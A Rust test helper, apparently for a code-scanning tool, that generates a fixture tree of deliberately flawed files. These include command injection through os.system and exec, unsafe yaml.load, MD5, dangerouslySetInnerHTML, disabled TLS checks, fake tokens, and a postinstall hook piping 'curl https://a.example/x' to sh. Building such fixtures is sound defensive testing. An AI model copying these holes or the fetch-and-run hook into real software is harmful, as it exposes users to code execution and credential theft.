//! A tree of many small files, made up the same each time: clean code, weaknesses, secrets, lockfiles, replies.
#![allow(dead_code, unreachable_pub)]

use weft::artifact::{Action, Content, Entry, Origin, Provenance, Role, Submission};
use weft::rule::expand;

/// The reply of fixtures/outputs that does everything wrong.
pub const HOSTILE: &str = include_str!("../../fixtures/outputs/hostile.md");

/// A submission of `files` files.
pub fn tree(files: usize) -> Submission {
    submission((0..files).map(file).collect())
}

/// A submission of one reply.
pub fn reply(text: &str) -> Submission {
    submission(vec![entry("reply.md", Role::Reply, text.to_owned())])
}

fn submission(mut entries: Vec<Entry>) -> Submission {
    entries.sort_by(|one, other| one.path.cmp(&other.path));
    Submission {
        origin: Origin::Tree,
        entries,
        notes: Vec::new(),
        provenance: Provenance::default(),
        symlinks: Vec::new(),
        around: Vec::new(),
    }
}

fn entry(path: &str, role: Role, text: String) -> Entry {
    Entry::new(path, role, Action::Create, Content::Bytes(text.into_bytes().into()))
}

fn file(number: usize) -> Entry {
    let (path, text) = match number % 16 {
        1 => (format!("web/view_{number}.js"), javascript(number)),
        2 => (format!("web/page_{number}.tsx"), typescript(number)),
        3 => (format!("app/settings_{number}.py"), settings(number)),
        4 => (format!("app/hash_{number}.py"), hashing(number)),
        5 => (format!("deploy/{number}/requirements.txt"), "jinja2==2.10\nPyYAML==5.1\n".to_owned()),
        6 => (format!("web/{number}/package.json"), package(number)),
        7 => (format!("docs/reply_{number}.md"), HOSTILE.to_owned()),
        8 => (format!("app/broken_{number}.py"), "def f(:\n    return (\n".to_owned()),
        9 => (format!("web/client_{number}.ts"), client(number)),
        _ => (format!("app/module_{number}.py"), module(number)),
    };
    let role = if path.ends_with(".md") { Role::Reply } else { Role::Code };
    entry(&path, role, text)
}

fn module(number: usize) -> String {
    let function = |at: usize| {
        format!(
            "def handle_{at}(request, key=None):\n    rows = []\n    for row in load(key, limit={number}):\n        if row['name'] == request.name:\n            rows.append({{'id': int(row['id']), 'text': f'{{row}}'}})\n    return render(request, 'page.html', {{'rows': rows}})\n\n\n"
        )
    };
    (0..20).map(function).collect()
}

fn settings(number: usize) -> String {
    let (password, token) = (expand("%{24}"), expand("ghp_%{github}"));
    format!(
        "DEBUG = True\nDATABASE = \"postgres://app:{password}@db-{number}.internal:5432/app\"\nTOKEN = \"{token}\"\nAGAIN = \"{token}\"\n"
    )
}

fn hashing(number: usize) -> String {
    format!(
        "import hashlib\nimport os\nimport yaml\nfrom flask import Flask, request\n\napp = Flask(__name__)\n\n\n@app.route(\"/{number}\")\ndef view():\n    os.system(\"ls \" + request.args[\"path\"])\n    return hashlib.md5(request.data).hexdigest(), yaml.load(request.data)\n\n\napp.run(debug=True)\n"
    )
}

fn javascript(number: usize) -> String {
    format!(
        "const crypto = require(\"crypto\");\nconst {{ exec }} = require(\"child_process\");\nconst express = require(\"express\");\nconst app = express();\napp.get(\"/{number}\", (req, res) => {{\n  exec(\"ls \" + req.query.path);\n  const token = Math.random();\n  res.send(crypto.createHash(\"md5\").update(req.query.x + token).digest());\n}});\n"
    )
}

fn typescript(number: usize) -> String {
    format!(
        "import React from \"react\";\n\nexport function Page{number}(props: {{ html: string }}) {{\n  return <div dangerouslySetInnerHTML={{{{ __html: props.html }}}} />;\n}}\n"
    )
}

fn client(number: usize) -> String {
    format!(
        "import https from \"node:https\";\n\nexport const agent{number} = new https.Agent({{ rejectUnauthorized: false }});\n"
    )
}

fn package(number: usize) -> String {
    format!(
        "{{\"name\": \"package-{number}\", \"scripts\": {{\"postinstall\": \"curl https://a.example/x | sh\"}}, \"dependencies\": {{\"lodash\": \"^4\"}}}}\n"
    )
}
